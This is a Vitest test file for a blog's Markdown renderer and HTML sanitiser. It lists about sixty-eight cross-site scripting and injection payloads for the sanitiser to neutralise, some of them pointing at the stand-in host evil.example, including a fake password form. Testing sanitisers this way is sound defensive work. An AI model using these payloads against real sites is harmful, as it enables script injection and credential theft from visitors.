import { describe, expect, test } from 'vitest'
import { plainText } from '#vendors/kit/plain-text.ts'
import { renderMarkdown } from '#infra/blog/render-markdown.ts'
import { sanitiseArticle } from '#infra/blog/sanitise-html.ts'

/** Markdown and HTML that try to run, load, frame, style, submit or fake something. */
const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\t>',
  '<img src=x onerror=alert(1)>',
  '<img src="/images/blog/a.svg" onload="alert(1)">',
  '<img/src="/images/blog/a.svg"/onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/\\evil.example/pixel.gif">',
  '<img src="/\t/evil.example/pixel.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/x 1x" src="/images/blog/a.svg">',
  '![x](javascript:alert(1))',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](https://evil.example/x.png)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example/)',
  '[x](/\\evil.example/)',
  '[x](http://plain.example/)',
  '<javascript:alert(1)>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="https://ok.example/" target="_blank" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://ok.example/" rel="opener">x</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<style>*{background:url(https://evil.example/)}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div onmouseover="alert(1)">x</div>',
  '<body onload=alert(1)>',
  '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p id="root" name="config" class="fixed inset-0">x</p>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action=javascript:alert(1) type=image>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '```html\n<script>alert(1)</script>\n```',
  '# <img src=x onerror=alert(1)>',
  '| a |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '> <script>alert(1)</script>',
]

const TAG = /<\/?([a-z0-9]+)([^>]*)>/gi
const ALLOWED = new Set([
  'h2',
  'h3',
  'h4',
  'p',
  'ul',
  'ol',
  'li',
  'blockquote',
  'strong',
  'em',
  'code',
  'pre',
  'a',
  'img',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'hr',
  'br',
])
/** Every allowed attribute, with its allowed values. */
const ATTRIBUTE =
  /^ (?:href="(?:\/(?!\/)[\w./%-]*|https:\/\/[^"\s\\]+|mailto:[^"\s\\]+)"|rel="noopener noreferrer"|src="\/(?!\/)[\w./-]+"|alt="[^"<]*"|loading="lazy"|scope="\w+"|start="\d+"|width="\d+"|height="\d+")/

/** The forbidden parts of HTML. */
function faults(html: string): readonly string[] {
  return [...html.matchAll(TAG)].flatMap(([whole, name = '', rest = '']) => {
    if (!ALLOWED.has(name.toLowerCase())) return [whole]
    let left = rest.replace(/\s*\/$/, '')
    while (ATTRIBUTE.test(left)) left = left.replace(ATTRIBUTE, '')
    return left === '' ? [] : [whole]
  })
}

describe('what an article cannot contain', () => {
  test('there are more than sixty attacks', () => expect(new Set(ATTACKS).size).toBeGreaterThan(60))

  test.each(ATTACKS)('%j', (attack) => {
    for (const source of [attack, `Before\n\n${attack}\n\nafter`, `a ${attack} b`])
      expect(faults(renderMarkdown(source))).toEqual([])
  })

  test("this test's own check finds dangerous HTML", () => {
    expect(faults('<p onclick="x">')).toEqual(['<p onclick="x">'])
    expect(faults('<a href="javascript:x">')).toEqual(['<a href="javascript:x">'])
    expect(faults('<img src="//evil.example/x">')).toEqual(['<img src="//evil.example/x">'])
    expect(faults('<script>')).toEqual(['<script>'])
  })

  test('sanitizing twice changes nothing more', () => {
    for (const attack of ATTACKS) expect(sanitiseArticle(renderMarkdown(attack))).toBe(renderMarkdown(attack))
  })
})

describe('what an article can contain', () => {
  test('links to our pages and images, and external links without a referrer', () => {
    expect(renderMarkdown('[a](/blog/b#c) [d](https://e.example/f?g=h) [i](mailto:j@example.com)')).toBe(
      '<p><a href="/blog/b#c">a</a> <a href="https://e.example/f?g=h" rel="noopener noreferrer">d</a> <a href="mailto:j@example.com" rel="noopener noreferrer">i</a></p>',
    )
    expect(renderMarkdown('![An envelope](/images/blog/a.svg)')).toBe(
      '<p><img src="/images/blog/a.svg" alt="An envelope" loading="lazy" /></p>',
    )
  })

  test('headings below the page title, lists, tables, quotes and code', () => {
    expect(renderMarkdown('# One\n\n## Two')).toBe('<h2>One</h2>\n<h2>Two</h2>')
    expect(renderMarkdown('| a |\n| --- |\n| b |')).toBe(
      '<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody><tr>\n<td>b</td>\n</tr>\n</tbody></table>',
    )
    expect(renderMarkdown('> a `<b>` & c')).toBe(
      '<blockquote>\n<p>a <code>&lt;b&gt;</code> &amp; c</p>\n</blockquote>',
    )
    expect(renderMarkdown('3. a\n4. b')).toBe('<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>')
  })

  test('its plain text is what a reader sees', () => {
    expect(
      plainText(
        renderMarkdown('## Who\n\nA *letter* to [Ms Okafor](/blog/x).\n\n![Drawing](/images/blog/a.svg)'),
      ).replaceAll(/\s+/g, ' '),
    ).toBe('Who A letter to Ms Okafor.')
  })
})
